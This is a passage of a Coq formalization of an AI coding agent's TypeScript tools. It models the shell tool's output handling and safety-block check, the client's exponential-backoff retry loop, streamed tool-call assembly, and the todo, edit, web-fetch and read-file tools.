(** The handler of the child's exit event.  The object it resolves with
    sets [success], [output], [error] and [exitCode]; the other fields are
    absent. *)
Definition exitResult (code : option Z) (stdout stderr : string) : ToolResult :=
  let output0 := if Js.truthyStr (Js.trim stdout) then Js.trimEnd stdout else "" in
  let output1 :=
    if Js.truthyStr (Js.trim stderr)
    then output0 ++ Js.nl ++ "--- stderr ---" ++ Js.nl ++ Js.trimEnd stderr
    else output0 in
  let output2 :=
    match code with
    | Some c => if (c =? 0)%Z then output1
                else output1 ++ Js.nl ++ "Exit code: " ++ Js.ofZ c
    | None => output1
    end in
  let output :=
    if (MAX_OUTPUT <? String.length output2)%nat
    then String.substring 0 MAX_OUTPUT output2 ++ Js.nl ++ "... [output truncated]"
    else output2 in
  let ok := match code with Some c => (c =? 0)%Z | None => false end in
  {| success := ok;
     output := output;
     error := if ok then None
              else Some (if Js.truthyStr (Js.trim stderr) then Js.trim stderr
                         else "Exit code: "
                              ++ match code with Some c => Js.ofZ c | None => "null" end);
     metadata := ∅;
     truncated := false;
     diff := None;
     exitCode := Some (Js.nullish code 0%Z) |}.

Section WithEnv.
Context `{Env}.

(** [fs.existsSync] *)
Variable existsSync : string -> Ext -> bool.

(** [buildEnvironment()] and the child spawned through the shell with that
    environment in the given directory, under a timer of the given number
    of seconds, up to the first call of [resolve]. *)
Variable spawn : string -> string -> Js.Value -> M Ext Outcome.

(** The working directory of the child.  Node's path functions throw a
    [TypeError] on an argument that is not a string. *)
Definition workDir (params : Params) (invocationCwd : string) : Js.Exc string :=
  match params !! "cwd" with
  | Some (Js.VStr dir) =>
      if Js.truthyStr dir then
        inr (if Path.isAbsolute dir then dir else Path.resolve2 procCwd invocationCwd dir)
      else inr invocationCwd
  | None | Some Js.VNull | Some (Js.VBool false) | Some (Js.VNum 0) => inr invocationCwd
  | Some _ =>
      inl ("TypeError [ERR_INVALID_ARG_TYPE]: The " ++ Js.dq ++ "path" ++ Js.dq
           ++ " argument must be of type string")
  end.

(** [params.timeout ?? 120] *)
Definition timeoutOf (params : Params) : Js.Value :=
  match params !! "timeout" with
  | None | Some Js.VNull => Js.VNum 120
  | Some seconds => seconds
  end.

Definition blockedResult (command : string) : ToolResult :=
  mkError ("Command blocked for safety: " ++ command) ""
    {[ "blocked" := Js.VBool true ]}.

(** [execute] on a command. *)
Definition shellExecute (params : Params) (invocationCwd : string) (rawCommand : string)
    : M Ext ToolResult :=
  let command := Js.trim rawCommand in
  if isBlocked command then ret (blockedResult command)
  else
    let* cwd := liftExc (workDir params invocationCwd) in
    let* present := gets (existsSync cwd) in
    if negb present then ret (mkError ("Working directory doesn't exist: " ++ cwd) "" ∅)
    else
      let timeoutSec := timeoutOf params in
      let* outcome := spawn command cwd timeoutSec in
      match outcome with
      | TimedOut =>
          ret (mkError ("Command timed out after " ++ Js.toStr timeoutSec ++ "s") "" ∅)
      | Exited code stdout stderr => ret (exitResult code stdout stderr)
      end.

(** The command of an invocation.  It is a string, as the schema and the
    casts of both methods declare; on a value that has no method of the
    given name the call throws a [TypeError].  (An array has an [includes]
    of its own: commands that are arrays are left out.) *)
Definition commandOf (method : string) (params : Params) : Js.Exc string :=
  match params !! "command" with
  | Some (Js.VStr command) => inr command
  | _ => inl ("TypeError: params.command." ++ method ++ " is not a function")
  end.

Definition ShellTool : Tool :=
  {| name := "shell";
     toolDescription :=
       "Execute a shell command. Use this for running system commands, scripts and CLI tools.";
     required := ["command"];
     toolIsMutating := baseIsMutating SHELL;
     getConfirmation := fun invocation =>
       let* command := liftExc (commandOf "includes" (params invocation)) in
       ret (Some (shellConfirmation (params invocation) command));
     execute := fun invocation =>
       let* command := liftExc (commandOf "trim" (params invocation)) in
       shellExecute (params invocation) (cwd invocation) command |}.

End WithEnv.

(** *** Vocabulary for reasoning about blocked commands *)

(** Whether a string begins, and ends, with a character that [trim] keeps. *)
Definition headSolid (b : string) : bool :=
  match b with
  | EmptyString => false
  | String c _ => negb (Js.isWhiteSpace c)
  end.

Fixpoint lastSolid (b : string) : bool :=
  match b with
  | EmptyString => false
  | String c EmptyString => negb (Js.isWhiteSpace c)
  | String _ b' => lastSolid b'
  end.

End Shell.

(** ** The retry loop of the model client (client/llmClient.ts) *)

Module Client.
Import Data.

Section WithEnv.
Context `{Env}.

(** What the client does on the network, in order: each request with what
    came back, and each pause with its length in milliseconds. *)
Inductive Call :=
| Requested (response : Stream)
| Slept (ms : N).

Record Wire := {
  wireExt : Ext;
  calls : list Call
}.

(** The body of the [try] block, drained: [streamResponse] or
    [nonStreamResponse] for Groq, the Gemini request and the events made of
    its chunks for Gemini.  [thrown] holds [error?.message ?? String(error)]
    of the exception that ends it. *)
Variable attempt : Ext -> Stream * Ext.

(** [await new Promise((resolve) => setTimeout(resolve, waitTime))] *)
Variable pause : N -> Ext -> Ext.

Definition request (w : Wire) : Stream * Wire :=
  let (response, e) := attempt (wireExt w) in
  (response, {| wireExt := e; calls := (calls w ++ [Requested response])%list |}).

Definition sleep (ms : N) (w : Wire) : Wire :=
  {| wireExt := pause ms (wireExt w); calls := (calls w ++ [Slept ms])%list |}.

Definition errorEvent (message : string) : StreamEvent :=
  {| evType := ERROR; textDelta := None; evError := Some message;
     toolCall := None; usage := None |}.

(** The loop [for (let attempt = 0; attempt <= this.maxRetries; attempt += 1)]
    from the given attempt on: the events yielded.  [fuel] bounds the
    iterations. *)
Fixpoint retryLoop (maxRetries fuel attemptNo : nat) (w : Wire)
    : list StreamEvent * Wire :=
  match fuel with
  | O => ([], w)
  | S fuel' =>
      if (attemptNo <=? maxRetries)%nat then
        let (response, w1) := request w in
        match thrown response with
        | None => (events response, w1)
        | Some message =>
            if (attemptNo <? maxRetries)%nat then
              let waitTime := (2 ^ N.of_nat attemptNo * 1000)%N in
              let (later, w2) := retryLoop maxRetries fuel' (S attemptNo) (sleep waitTime w1) in
              ((events response ++ later)%list, w2)
            else ((events response ++ [errorEvent message])%list, w1)
        end
      else ([], w)
  end.

Definition maxRetries : nat := 3.

(** [chatCompletion] and [chatCompletionGemini], drained.  [client] is the
    outcome of what precedes the loop, [getClient()] or [getGeminiClient()],
    which throw when the provider or the key is missing; the loop is given
    one iteration more than it can use. *)
Definition chatCompletion (client : Js.Exc unit) (w : Wire) : Stream * Wire :=
  match client with
  | inl error => ({| events := []; thrown := Some error |}, w)
  | inr _ =>
      let (yielded, w') := retryLoop maxRetries (maxRetries + 2) 0 w in
      ({| events := yielded; thrown := None |}, w')
  end.

(** *** Vocabulary for reasoning about retries *)

(** The calls of a run of requests that starts with the given attempt: a
    pause of 2^attempt seconds after each request but the last. *)
Fixpoint schedule (attemptNo : nat) (responses : list Stream) : list Call :=
  match responses with
  | [] => []
  | [response] => [Requested response]
  | response :: rest =>
      Requested response :: Slept (2 ^ N.of_nat attemptNo * 1000)%N
        :: schedule (S attemptNo) rest
  end.

Definition failed (response : Stream) : Prop := thrown response <> None.

(** The error event that closes the stream when the last request failed. *)
Definition closing (response : Stream) : list StreamEvent :=
  match thrown response with
  | Some message => [errorEvent message]
  | None => []
  end.

End WithEnv.
End Client.

(** ** The streamed response of the provider (client/llmClient.ts,
    client/response.ts) *)

Module Streaming.
Import Data.

(** A chunk of the provider's stream, the fields [streamResponse] reads,
    with the types the provider's library declares; the index of a tool
    call is a position in an array. *)
Record RawUsage := {
  prompt_tokens : option N;
  completion_tokens : option N;
  total_tokens : option N;
  (** [prompt_tokens_details?.cached_tokens] *)
  cached_tokens : option N
}.

Record FunctionDelta := {
  fnDeltaName : option string;
  fnDeltaArguments : option string
}.

Record ToolCallChunk := {
  index : option nat;
  tcId : option string;
  tcFunction : option FunctionDelta
}.

Record Delta := {
  content : option string;
  tool_calls : option (list ToolCallChunk)
}.

Record Choice := {
  delta : option Delta;
  finish_reason : option string
}.

Record Chunk := {
  chunkUsage : option RawUsage;
  choices : option (list Choice)
}.

(** What the request delivers: its chunks and, possibly, the exception
    that ends it (before the first chunk when the request itself fails). *)
Record Incoming := {
  chunks : list Chunk;
  failure : option string
}.

(** The events [streamResponse] yields. *)
Inductive Event :=
| TextDelta (content : string)
| ToolCallStart (callId name : string)
| ToolCallDelta (callId : string) (name : option string) (argumentsDelta : string)
| ToolCallComplete (callId name : string) (arguments : Js.Value)
| MessageComplete (finishReason : option string) (usage : option TokenUsage).

(** An entry of [toolCalls]. *)
Record Pending := {
  pendingId : string;
  pendingName : string;
  pendingArguments : string
}.

Record State := {
  finishReason : option string;
  usage : option TokenUsage;
  toolCalls : gmap nat Pending
}.

Definition usageOf (raw : RawUsage) : TokenUsage :=
  {| promptTokens := Js.nullish (prompt_tokens raw) 0%N;
     completionTokens := Js.nullish (completion_tokens raw) 0%N;
     totalTokens := Js.nullish (total_tokens raw) 0%N;
     cachedTokens := Js.nullish (cached_tokens raw) 0%N |}.

Definition indexOf (d : ToolCallChunk) : nat := Js.nullish (index d) 0.

(** [toolCallDelta.function?.name] and [toolCallDelta.function?.arguments] *)
Definition nameOf (d : ToolCallChunk) : option string :=
  match tcFunction d with Some f => fnDeltaName f | None => None end.

Definition argumentsOf (d : ToolCallChunk) : option string :=
  match tcFunction d with Some f => fnDeltaArguments f | None => None end.

(** The body of the loop over [delta.tool_calls]. *)
Definition onToolCall (d : ToolCallChunk) (calls : gmap nat Pending)
    : list Event * gmap nat Pending :=
  let idx := indexOf d in
  let entry0 :=
    match calls !! idx with
    | Some entry => entry
    | None => {| pendingId := Js.nullish (tcId d) ""; pendingName := "";
                 pendingArguments := "" |}
    end in
  let (started, entry1) :=
    match nameOf d with
    | Some name =>
        if Js.truthyStr name then
          ([ToolCallStart (pendingId entry0) name],
           {| pendingId := pendingId entry0; pendingName := name;
              pendingArguments := pendingArguments entry0 |})
        else ([], entry0)
    | None => ([], entry0)
    end in
  let (fed, entry2) :=
    match argumentsOf d with
    | Some fragment =>
        if Js.truthyStr fragment then
          ([ToolCallDelta (pendingId entry1) (nameOf d) fragment],
           {| pendingId := pendingId entry1; pendingName := pendingName entry1;
              pendingArguments := pendingArguments entry1 ++ fragment |})
        else ([], entry1)
    | None => ([], entry1)
    end in
  ((started ++ fed)%list, <[idx := entry2]> calls).

Fixpoint onToolCalls (ds : list ToolCallChunk) (calls : gmap nat Pending)
    : list Event * gmap nat Pending :=
  match ds with
  | [] => ([], calls)
  | d :: rest =>
      let (first, calls1) := onToolCall d calls in
      let (later, calls2) := onToolCalls rest calls1 in
      ((first ++ later)%list, calls2)
  end.

(** The body of the loop over the chunks. *)
Definition onChunk (chunk : Chunk) (st : State) : list Event * State :=
  let usage1 :=
    match chunkUsage chunk with
    | Some raw => Some (usageOf raw)
    | None => usage st
    end in
  match choices chunk with
  | Some (choice :: _) =>
      let finishReason1 :=
        if Js.truthy (finish_reason choice) then finish_reason choice
        else finishReason st in
      let texts :=
        match delta choice with
        | Some d => match content d with
                    | Some text => if Js.truthyStr text then [TextDelta text] else []
                    | None => []
                    end
        | None => []
        end in
      let (calls, toolCalls1) :=
        match delta choice with
        | Some d => match tool_calls d with
                    | Some ds => onToolCalls ds (toolCalls st)
                    | None => ([], toolCalls st)
                    end
        | None => ([], toolCalls st)
        end in
      ((texts ++ calls)%list,
       {| finishReason := finishReason1; usage := usage1; toolCalls := toolCalls1 |})
  | _ => ([], {| finishReason := finishReason st; usage := usage1;
                 toolCalls := toolCalls st |})
  end.

Fixpoint onChunks (cs : list Chunk) (st : State) : list Event * State :=
  match cs with
  | [] => ([], st)
  | chunk :: rest =>
      let (first, st1) := onChunk chunk st in
      let (later, st2) := onChunks rest st1 in
      ((first ++ later)%list, st2)
  end.

(** [Object.entries(toolCalls)]: the entries by ascending index. *)
Definition byIndex (a b : nat * Pending) : Prop := fst a <= fst b.

#[local] Instance byIndex_dec (a b : nat * Pending) : Decision (byIndex a b) :=
  decide (fst a <= fst b).

Definition entries (calls : gmap nat Pending) : list (nat * Pending) :=
  merge_sort byIndex (map_to_list calls).

Section WithParser.

(** [JSON.parse] *)
Variable JSON_parse : string -> Js.Exc Js.Value.

(** [parseToolCallArguments] of client/response.ts *)
Definition parseToolCallArguments (argumentsStr : string) : Js.Value :=
  if negb (Js.truthyStr argumentsStr) then Js.VObj ∅
  else match JSON_parse argumentsStr with
       | inr value => value
       | inl _ => Js.VObj {[ "raw_arguments" := Js.VStr argumentsStr ]}
       end.

Definition completed (entry : nat * Pending) : Event :=
  ToolCallComplete (pendingId (snd entry)) (pendingName (snd entry))
    (parseToolCallArguments (pendingArguments (snd entry))).

Definition startState : State :=
  {| finishReason := None; usage := None; toolCalls := ∅ |}.

(** [streamResponse], drained: the events yielded and the exception that
    ends the generator, if any. *)
Definition streamResponse (incoming : Incoming) : list Event * option string :=
  let (early, st) := onChunks (chunks incoming) startState in
  match failure incoming with
  | Some error => (early, Some error)
  | None =>
      ((early ++ List.map completed (entries (toolCalls st))
        ++ [MessageComplete (finishReason st) (usage st)])%list, None)
  end.

End WithParser.

(** *** Vocabulary for reasoning about a stream *)

(** The tool-call deltas of a stream, in order of arrival. *)
Definition deltasOf (cs : list Chunk) : list ToolCallChunk :=
  List.flat_map
    (fun chunk =>
       match choices chunk with
       | Some (choice :: _) =>
           match delta choice with
           | Some d => Js.nullish (tool_calls d) []
           | None => []
           end
       | _ => []
       end) cs.

(** The deltas that carry the given index. *)
Definition under (idx : nat) (ds : list ToolCallChunk) : list ToolCallChunk :=
  List.filter (fun d => (indexOf d =? idx)%nat) ds.

Definition truthyOnes (xs : list (option string)) : list string :=
  List.flat_map (fun x => match x with
                          | Some s => if Js.truthyStr s then [s] else []
                          | None => []
                          end) xs.

(** The entry that the deltas under one index add up to: the id of the
    first, the last name given, the fragments of the arguments in order. *)
Definition assembled (ds : list ToolCallChunk) : Pending :=
  {| pendingId := match ds with d :: _ => Js.nullish (tcId d) "" | [] => "" end;
     pendingName := List.last (truthyOnes (List.map nameOf ds)) "";
     pendingArguments := String.concat "" (truthyOnes (List.map argumentsOf ds)) |}.

(** The usage and the finish reason reported when the stream ends: those
    of the last chunk that carried one. *)
Definition usagesOf (cs : list Chunk) : list (option TokenUsage) :=
  List.flat_map (fun chunk => match chunkUsage chunk with
                              | Some raw => [Some (usageOf raw)]
                              | None => []
                              end) cs.

Definition reasonsOf (cs : list Chunk) : list (option string) :=
  List.flat_map (fun chunk => match choices chunk with
                              | Some (choice :: _) =>
                                  if Js.truthy (finish_reason choice)
                                  then [finish_reason choice] else []
                              | _ => []
                              end) cs.

(** An event yielded while the chunks arrive. *)
Definition early (ev : Event) : Prop :=
  match ev with
  | TextDelta _ | ToolCallStart _ _ | ToolCallDelta _ _ _ => True
  | ToolCallComplete _ _ _ | MessageComplete _ _ => False
  end.

End Streaming.

(** ** The todos tool (tools/builtin/todo.ts) *)

Module Todos.
Import ToolBase.

(** The parameters as [execute] casts them. *)
Record TodoParams := {
  action : string;
  id : option string;
  content : option string
}.

(** The [Map] of the tool: the entries in insertion order, one per key. *)
Definition Store : Type := list (string * string).

Definition mapGet (key : string) (todos : Store) : option string :=
  match List.find (fun entry => String.eqb (fst entry) key) todos with
  | Some entry => Some (snd entry)
  | None => None
  end.

Definition mapHas (key : string) (todos : Store) : bool :=
  match mapGet key todos with Some _ => true | None => false end.

(** [Map.set]: the value of a key already present is replaced where it
    stands, a new key goes to the end. *)
Fixpoint mapSet (key value : string) (todos : Store) : Store :=
  match todos with
  | [] => [(key, value)]
  | entry :: rest =>
      if String.eqb (fst entry) key then (key, value) :: rest
      else entry :: mapSet key value rest
  end.

Definition mapDelete (key : string) (todos : Store) : Store :=
  List.filter (fun entry => negb (String.eqb (fst entry) key)) todos.

(** [execute]; [uuid] is what [randomUUID()] returns when it is called. *)
Definition execute (params : TodoParams) (uuid : string) (todos : Store)
    : ToolResult * Store :=
  let act := Js.toLowerCase (action params) in
  if String.eqb act "add" then
    match content params with
    | Some text =>
        if Js.truthyStr text then
          let todoId := String.substring 0 8 uuid in
          (mkSuccess ("Added todo [" ++ todoId ++ "]: " ++ text), mapSet todoId text todos)
        else (mkError "`content` required for 'add' action" "" ∅, todos)
    | None => (mkError "`content` required for 'add' action" "" ∅, todos)
    end
  else if String.eqb act "complete" then
    match id params with
    | Some key =>
        if Js.truthyStr key then
          match mapGet key todos with
          | None => (mkError ("Todo not found: " ++ key) "" ∅, todos)
          | Some text =>
              (mkSuccess ("Completed todo [" ++ key ++ "]: " ++ text), mapDelete key todos)
          end
        else (mkError "`id` required for 'complete' action" "" ∅, todos)
    | None => (mkError "`id` required for 'complete' action" "" ∅, todos)
    end
  else if String.eqb act "list" then
    if (List.length todos =? 0)%nat then (mkSuccess "No todos", todos)
    else
      (mkSuccess
         (Js.join Js.nl
            ("Todos:" :: List.map (fun entry => "  [" ++ fst entry ++ "] " ++ snd entry) todos)),
       todos)
  else if String.eqb act "clear" then
    (mkSuccess ("Cleared " ++ Js.ofNat (List.length todos) ++ " todos"), [])
  else (mkError ("Unknown action: " ++ action params) "" ∅, todos).

(** *** Vocabulary for reasoning about a todo list *)

(** A call with the random value drawn for it. *)
Definition Call : Type := (TodoParams * string)%type.

Definition executeAll (calls : list Call) (todos : Store) : Store :=
  List.fold_left (fun store call => snd (execute (fst call) (snd call) store)) calls todos.

(** Whether a call can change the entry of the given id: it clears the
    list, completes that id, or adds under that id. *)
Definition touches (key : string) (call : Call) : bool :=
  let act := Js.toLowerCase (action (fst call)) in
  String.eqb act "clear"
  || (String.eqb act "complete" && bool_decide (id (fst call) = Some key))
  || (String.eqb act "add" && String.eqb (String.substring 0 8 (snd call)) key).

Definition addCall (text uuid : string) : Call :=
  ({| action := "add"; id := None; content := Some text |}, uuid).

Definition listing : TodoParams := {| action := "list"; id := None; content := None |}.

Definition line (entry : string * string) : string :=
  "  [" ++ fst entry ++ "] " ++ snd entry.

End Todos.

(** ** The edit tool (tools/builtin/editFile.ts) *)

Module Edit.
Import ToolBase Data Eff Registry.

(** The parameters as [execute] casts them. *)
Record EditParams := {
  path : string;
  old_string : option string;
  new_string : string;
  replace_all : option bool
}.

(** The lines of the file that contain the first word of [old_string], at
    most three, with their numbers. *)
Definition partialMatches (oldString content : string) : list (nat * string) :=
  let lines := Js.splitLines content in
  let searchTerms := List.firstn 5 (Js.splitSpaces false oldString) in
  match searchTerms with
  | [] => []
  | firstTerm :: _ =>
      List.firstn 3
        (List.map (fun entry => (fst entry, String.substring 0 80 (Js.trim (snd entry))))
           (List.filter (fun entry => Js.includes (snd entry) firstTerm)
              (List.combine (List.seq 1 (List.length lines)) lines)))
  end.

Definition noMatchError (oldString content target : string) : ToolResult :=
  let found := partialMatches oldString content in
  let errorMsg := "old_string not found in " ++ target ++ "." in
  mkError
    (if (0 <? List.length found)%nat then
       errorMsg ++ Js.nl ++ Js.nl ++ "Possible similar lines:"
       ++ String.concat ""
            (List.map (fun m => Js.nl ++ "  Line " ++ Js.ofNat (fst m) ++ ": " ++ snd m) found)
       ++ Js.nl ++ Js.nl
       ++ "Make sure old_string matches exactly (including whitespace and indentation)."
     else
       errorMsg ++ " Make sure the text matches exactly, including:" ++ Js.nl
       ++ "- All whitespace and indentation" ++ Js.nl
       ++ "- Line breaks" ++ Js.nl
       ++ "- Any invisible characters" ++ Js.nl
       ++ "Try re-reading the file using read_file tool and then editing.")
    "" ∅.

Definition lineCount (text : string) : Z := Z.of_nat (List.length (Js.splitLines text)).

Definition diffMsg (lineDiff : Z) : string :=
  if (0 <? lineDiff)%Z then " (+" ++ Js.ofZ lineDiff ++ " lines)"
  else if (lineDiff <? 0)%Z then " (" ++ Js.ofZ lineDiff ++ " lines)"
  else "".

Section WithEnv.
Context `{Env}.

(** [fs.existsSync], [fs.readFileSync(target, "utf-8")] and
    [fs.writeFileSync(target, content, "utf-8")] *)
Variable existsSync : string -> Ext -> bool.
Variable readFileSync : string -> M Ext string.
Variable writeFileSync : string -> string -> M Ext unit.

(** [ensureParentDirectory] of utils/paths.ts *)
Definition ensureParentDirectory (target : string) : M Ext unit :=
  fun e => match mkdirSync (Path.dirname target) e with
           | (None, e') => (inr tt, e')
           | (Some error, e') => (inl error, e')
           end.

Definition created (target newString : string) : ToolResult :=
  {| success := true;
     output := "Created " ++ target ++ " " ++ Js.ofZ (lineCount newString) ++ " lines";
     error := None;
     metadata := {[ "path" := Js.VStr target;
                    "is_new_file" := Js.VBool true;
                    "lines" := Js.VNum (lineCount newString) ]};
     truncated := false;
     diff := Some {| ToolBase.path := target; oldContent := ""; newContent := newString;
                     isNewFile := true; isDeletion := false |};
     exitCode := None |}.

Definition edited (target oldContent newContent : string) (replaceCount : nat)
    : ToolResult :=
  let lineDiff := (lineCount newContent - lineCount oldContent)%Z in
  {| success := true;
     output := "Edited " ++ target ++ ": replaced " ++ Js.ofNat replaceCount
               ++ " occurrence(s)" ++ diffMsg lineDiff;
     error := None;
     metadata := {[ "path" := Js.VStr target;
                    "replaced_count" := Js.VNum (Z.of_nat replaceCount);
                    "line_diff" := Js.VNum lineDiff ]};
     truncated := false;
     diff := Some {| ToolBase.path := target; oldContent := oldContent;
                     newContent := newContent; isNewFile := false; isDeletion := false |};
     exitCode := None |}.

Definition execute (params : EditParams) (cwd : string) : M Ext ToolResult :=
  let* target := liftExc (resolvePath cwd (Some (Js.VStr (path params)))) in
  let* present := gets (existsSync target) in
  if negb present then
    if Js.truthy (old_string params) then
      ret (mkError ("File does not exist: " ++ target
                    ++ ". To create a new file, use an empty old_string.") "" ∅)
    else
      run ensureParentDirectory target in
      run writeFileSync target (new_string params) in
      ret (created target (new_string params))
  else
    let* oldContent := readFileSync target in
    match old_string params with
    | Some oldString =>
        if Js.truthyStr oldString then
          let occurrenceCount := (List.length (Js.split oldString oldContent) - 1)%nat in
          let replaceAll := Js.nullish (replace_all params) false in
          if (occurrenceCount =? 0)%nat then ret (noMatchError oldString oldContent target)
          else if (1 <? occurrenceCount)%nat && negb replaceAll then
            ret (mkError
                   ("old_string found " ++ Js.ofNat occurrenceCount ++ " times in " ++ target
                    ++ ". Either: " ++ Js.nl
                    ++ "1. Provide more context to make the match unique or" ++ Js.nl
                    ++ "2. Set replace_all=true to replace all occurrences")
                   "" {[ "occurrence_count" := Js.VNum (Z.of_nat occurrenceCount) ]})
          else
            let newContent :=
              if replaceAll then Js.replaceAll oldString (new_string params) oldContent
              else Js.replace oldString (new_string params) oldContent in
            let replaceCount := if replaceAll then occurrenceCount else 1%nat in
            if String.eqb newContent oldContent then
              ret (mkError "No change made - old_string equals new_string" "" ∅)
            else
              let* failure :=
                tryCatch (run writeFileSync target newContent in ret None)
                  (fun error => ret (Some (mkError ("failed to write file: " ++ error) "" ∅))) in
              match failure with
              | Some result => ret result
              | None => ret (edited target oldContent newContent replaceCount)
              end
        else
          ret (mkError ("old_string is empty but file exists. Provide old_string to edit,"
                        ++ " or use write_file to overwrite.") "" ∅)
    | None =>
        ret (mkError ("old_string is empty but file exists. Provide old_string to edit,"
                      ++ " or use write_file to overwrite.") "" ∅)
    end.

End WithEnv.

(** *** Vocabulary for reasoning about edits *)

(** A text without a dollar sign. *)
Fixpoint plain (s : string) : bool :=
  match s with
  | EmptyString => true
  | String c s' => negb (Ascii.eqb c "$") && plain s'
  end.

End Edit.

(** ** The web fetch tool (tools/builtin/webFetch.ts) *)

Module WebFetch.
Import ToolBase Data Eff Registry.

(** What [fetch] resolves to: the fields [execute] reads, and the outcome
    of [response.text()]. *)
Record Response {Ext : Type} := {
  ok : bool;
  status : Z;
  statusText : string;
  text : M Ext string
}.
Arguments Response : clear implicits.

Definition MAX_CONTENT : nat := 100 * 1024.

Section WithEnv.
Context `{Env}.

(** [fetch(url, { signal, redirect: "follow" })] under a timer of the given
    number of seconds that aborts it. *)
Variable fetch : string -> Js.Value -> M Ext (Response Ext).

(** [params.timeout ?? 120] *)
Definition timeoutOf (params : Params) : Js.Value :=
  match params !! "timeout" with
  | None | Some Js.VNull => Js.VNum 120
  | Some seconds => seconds
  end.

Definition fetched (status : Z) (body : string) : ToolResult :=
  let content :=
    if (MAX_CONTENT <? String.length body)%nat
    then String.substring 0 MAX_CONTENT body ++ Js.nl ++ "... [content truncated]"
    else body in
  {| success := true;
     output := content;
     error := None;
     metadata := {[ "status_code" := Js.VNum status;
                    "content_length" := Js.VNum (Z.of_nat (String.length body)) ]};
     truncated := false;
     diff := None;
     exitCode := None |}.

(** [execute] on a URL. *)
Definition fetchUrl (params : Params) (url : string) : M Ext ToolResult :=
  if negb (Js.startsWith url "http://") && negb (Js.startsWith url "https://") then
    ret (mkError "Url must be http:// or https://" "" ∅)
  else
    tryCatch
      (let* response := fetch url (timeoutOf params) in
       if negb (ok response) then
         ret (mkError ("HTTP " ++ Js.ofZ (status response) ++ ": " ++ statusText response)
                "" ∅)
       else
         let* body := text response in
         ret (fetched (status response) body))
      (fun error => ret (mkError ("Request failed: " ++ error) "" ∅)).

(** The URL of an invocation.  It is a string, as the schema and the cast
    declare; on a value without [startsWith] the call throws a
    [TypeError]. *)
Definition urlOf (params : Params) : Js.Exc string :=
  match params !! "url" with
  | Some (Js.VStr url) => inr url
  | _ => inl "TypeError: url.startsWith is not a function"
  end.

Definition WebFetchTool : Tool :=
  {| name := "web_fetch";
     toolDescription := "Fetch content from a URL. Returns the response body as text";
     required := ["url"];
     toolIsMutating := baseIsMutating NETWORK;
     getConfirmation := baseGetConfirmation "web_fetch" (baseIsMutating NETWORK);
     execute := fun invocation =>
       let* url := liftExc (urlOf (params invocation)) in
       fetchUrl (params invocation) url |}.

End WithEnv.
End WebFetch.

(** ** The read_file tool (tools/builtin/readFile.ts) *)

Module ReadFile.
Import ToolBase Data Eff Registry Context Text.

(** The parameters as [execute] casts them. *)
Record ReadParams := {
  path : string;
  offset : option Z;
  limit : option Z
}.

(** What [fs.statSync] tells. *)
Record Stat := {
  isFile : bool;
  size : Z
}.

Definition MAX_FILE_SIZE : Z := (1024 * 1024 * 10)%Z.
Definition MAX_OUTPUT_TOKENS : Z := 25000.
Definition MiB : Z := (1024 * 1024)%Z.

(** [Math.max(0, (params.offset ?? 1) - 1)] *)
Definition offsetOf (params : ReadParams) : Z :=
  Z.max 0 (Js.nullish (offset params) 1%Z - 1).

(** The end of the window among [totalLines] lines. *)
Definition endOf (params : ReadParams) (totalLines : Z) : Z :=
  match limit params with
  | Some count => if (count =? 0)%Z then totalLines
                  else Z.min (offsetOf params + count)%Z totalLines
  | None => totalLines
  end.

(** The lines of the window, each behind its number. *)
Definition formatted (params : ReadParams) (lines : list string) : list string :=
  let first := offsetOf params in
  let selected := Js.slice first (endOf params (Z.of_nat (List.length lines))) lines in
  List.map (fun entry =>
              Js.padStart 6 " " (Js.ofZ (Z.of_nat (fst entry) + first + 1)) ++ "|" ++ snd entry)
    (List.combine (List.seq 0 (List.length selected)) selected).

Section WithEnv.
Context `{Env}.

(** [this.config.modelName] *)
Variable modelName : string.

(** [fs.existsSync], [fs.statSync], [fs.readFileSync(target)] (the bytes)
    and [fs.readFileSync(target, encoding)] *)
Variable existsSync : string -> Ext -> bool.
Variable statSync : string -> M Ext Stat.
Variable readBytes : string -> M Ext string.
Variable readFileSync : string -> string -> M Ext string.

(** [isBinaryFile] of utils/paths.ts *)
Definition isBinaryFile (target : string) : M Ext bool :=
  tryCatch
    (let* buffer := readBytes target in
     ret (Js.includes buffer (String (ascii_of_nat 0) "")))
    (fun _ => ret false).

(** What follows the reading of the content. *)
Definition render (params : ReadParams) (targetPath content : string) : ToolResult :=
  let lines := Js.splitLines content in
  let totalLines := Z.of_nat (List.length lines) in
  if (totalLines =? 0)%Z then
    {| success := true; output := "File is empty."; error := None;
       metadata := {[ "lines" := Js.VNum 0 ]};
       truncated := false; diff := None; exitCode := None |}
  else
    let first := offsetOf params in
    let endIdx := endOf params totalLines in
    let whole := Js.join Js.nl (formatted params lines) in
    let tooLong := (MAX_OUTPUT_TOKENS <? Z.of_N (countText whole "gpt-4"))%Z in
    let shown :=
      if tooLong then
        truncateText whole modelName MAX_OUTPUT_TOKENS
          (Js.nl ++ "... [truncated " ++ Js.ofZ totalLines ++ " total lines]") true
      else whole in
    let headed :=
      if (0 <? first)%Z || (endIdx <? totalLines)%Z then
        "Showing lines " ++ Js.ofZ (first + 1) ++ "-" ++ Js.ofZ endIdx ++ " of "
        ++ Js.ofZ totalLines ++ Js.nl ++ Js.nl ++ shown
      else shown in
    {| success := true; output := headed; error := None;
       metadata := {[ "path" := Js.VStr targetPath;
                      "total_lines" := Js.VNum totalLines;
                      "shown_start" := Js.VNum (first + 1);
                      "shown_end" := Js.VNum endIdx ]};
       truncated := tooLong; diff := None; exitCode := None |}.

Definition execute (params : ReadParams) (cwd : string) : M Ext ToolResult :=
  let* targetPath := liftExc (resolvePath cwd (Some (Js.VStr (path params)))) in
  let* present := gets (existsSync targetPath) in
  if negb present then ret (mkError ("File not found: " ++ targetPath) "" ∅)
  else
    let* stat := statSync targetPath in
    if negb (isFile stat) then ret (mkError ("Path is not a file: " ++ targetPath) "" ∅)
    else if (MAX_FILE_SIZE <? size stat)%Z then
      ret (mkError ("File too large (" ++ Js.toFixed 1 (size stat) MiB ++ "MB). Maximum is "
                    ++ Js.toFixed 0 MAX_FILE_SIZE MiB ++ "MB.") "" ∅)
    else
      let* binary := isBinaryFile targetPath in
      if binary then
        let sizeStr :=
          if (MiB <? size stat)%Z then Js.toFixed 2 (size stat) MiB ++ "MB"
          else Js.ofZ (size stat) ++ " bytes" in
        ret (mkError ("Cannot read binary file: " ++ Path.basename targetPath ++ " ("
                      ++ sizeStr ++ ") This tool only reads text files.") "" ∅)
      else
        tryCatch
          (let* content :=
             tryCatch (readFileSync targetPath "utf-8")
               (fun _ => readFileSync targetPath "latin1") in
           ret (render params targetPath content))
          (fun error => ret (mkError ("Failed to read file: " ++ error) "" ∅)).

End WithEnv.
End ReadFile.

